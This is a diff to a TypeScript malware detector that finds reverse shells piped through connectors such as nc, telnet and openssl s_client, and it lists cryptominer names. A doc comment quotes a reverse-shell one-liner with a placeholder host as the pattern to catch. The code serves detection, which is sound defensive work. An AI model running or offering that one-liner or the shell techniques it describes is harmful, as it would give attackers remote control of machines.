@@ -5,6 +5,7 @@ import { nameOf } from '../../../analysis/paths/shell-paths.ts';
 import { FILTERS } from '../../../data/programs.ts';
 import { type Command, everyPipeline, type Pipeline, type Script, type ShellWord } from '../../../model/shell.ts';
 import { type Span, spanThrough } from '../../../model/source.ts';
+import { isThisMachine } from '../../../model/web-address.ts';
 import { type Held, heldIn, hold } from './held-text.ts';
 import { type KnownSecrets, NO_SECRETS } from './known-secrets.ts';
 import { secretVariables, sentSecrets } from './sent-secrets.ts';
@@ -22,6 +23,7 @@ export function* hiddenIn(
       encodedCommand(pipeline) ??
       storedCode(pipeline, decoded) ??
       remoteShell(pipeline) ??
+      pipedShell(pipeline) ??
       sent(pipeline, { files: secrets.files, variables });
     for (const name of secretVariables(pipeline, { files: secrets.files, variables })) variables.add(name);
     const any = found ?? (mayMine ? undefined : miner(pipeline));
@@ -169,7 +171,8 @@ function remoteShell({ commands }: Pipeline): Found | undefined {
     const isConnected = redirects.some(
       ({ operator, target }) => isRemote(target?.pieces) && /^(?:>&|&>|<>|>|<)$/.test(operator),
     );
-    if (isConnected && SHELL.test(String(program)) && command.inner === undefined)
+    // an interactive one goes on with the connection after the input of a pipe
+    if (isConnected && SHELL.test(String(program)) && (command.inner === undefined || isInteractive(command)))
       return { at: endOf(command), how: CONNECTS };
     if (connectsByCode(command)) return { at: command.span, how: CONNECTS };
     if (!CONNECTORS.has(program)) continue;
@@ -177,6 +180,41 @@ function remoteShell({ commands }: Pipeline): Found | undefined {
       return { at: command.span, how: CONNECTS };
   }
   return undefined;
+}
+
+/** `cat f | sh -i 2>&1 | nc host port > f`: the shell reads what the other machine sends, and the pipe takes its output there. */
+function pipedShell({ commands }: Pipeline): Found | undefined {
+  const to = commands.findIndex(connectsElsewhere);
+  const shell = commands.slice(0, Math.max(to, 0)).findLastIndex(isOpenShell);
+  const [command, connector] = [commands[shell], commands[to]];
+  if (command === undefined || connector === undefined) return undefined;
+  const answers = filesIn(connector, '>');
+  const read = commands
+    .slice(0, shell + 1)
+    .flatMap((one) => [...filesIn(one, '<'), ...(one === command ? [] : one.arguments.map(({ pieces }) => pieces))]);
+  if (!isInteractive(command) && !answers.some((file) => read.includes(file))) return undefined;
+  return { at: spanThrough((commands[0] ?? command).span, endOf(connector)), how: CONNECTS };
+}
+
+/** Whether a shell runs what it reads, and the script does not have that. */
+function isOpenShell(command: Command): boolean {
+  const { program, arguments: words, inner } = command;
+  if (!SHELL.test(String(program)) || !words.every(({ pieces }) => /^-(?!.*c)[a-z]+$/.test(pieces))) return false;
+  return inner === undefined || isInteractive(command);
+}
+
+function isInteractive({ arguments: words }: Command): boolean {
+  return words.length > 0 && words.every(({ pieces }) => /^-(?!.*c)[a-z]+$/.test(pieces)) && has(words, /i/);
+}
+
+function connectsElsewhere({ program, arguments: words }: Command): boolean {
+  const isConnector =
+    CONNECTORS.has(program) || program === 'telnet' || (program === 'openssl' && words[0]?.pieces === 's_client');
+  return isConnector && words.length > 0 && !words.some(({ pieces }) => isThisMachine(pieces.replace(/:\d+$/, '')));
+}
+
+function filesIn({ redirects }: Command, operator: string): readonly string[] {
+  return redirects.flatMap((one) => (one.operator === operator && one.target ? [one.target.pieces] : []));
 }
 
 /** A line of another language that connects and starts a shell. */
@@ -211,9 +249,14 @@ function endOf({ span, redirects }: Command): Span {
 }
 
 function startsShell(word: string, before: string | undefined): boolean {
-  if (/^exec:["']?(?:\/bin\/)?(?:ba)?sh\b/i.test(word)) return true;
-  return /^(?:\/usr)?(?:\/bin\/)?(?:ba|da|a)?sh$/.test(word) && /^-[a-z]*[ec]$|^--(?:sh-)?exec$/.test(before ?? '');
+  if (/^(?:exec|system):["']?(?:\/bin\/)?(?:ba)?sh\b/i.test(word)) return true;
+  const attached = /^(?:--(?:sh-)?exec=|-[ec](?=\/))(.{1,200})$/.exec(word)?.[1];
+  if (attached !== undefined) return OPEN_SHELL.test(attached);
+  return OPEN_SHELL.test(word) && /^-[a-z]*[ec]$|^--(?:sh-)?exec$/.test(before ?? '');
 }
+
+/** A shell without a command: `bash -i`, `/bin/sh 2>&1`. */
+const OPEN_SHELL = /^(?:\/usr)?(?:\/bin\/)?(?:ba|da|a|z|k)?sh(?:\s{1,9}(?:-[abd-z]{1,9}|--login|\d?[<>]&?\d)){0,9}$/;
 
 const MINERS: ReadonlySet<string> = new Set(
   'xmrig xmr-stak minerd cpuminer cgminer nbminer lolMiner ethminer'.split(' '),
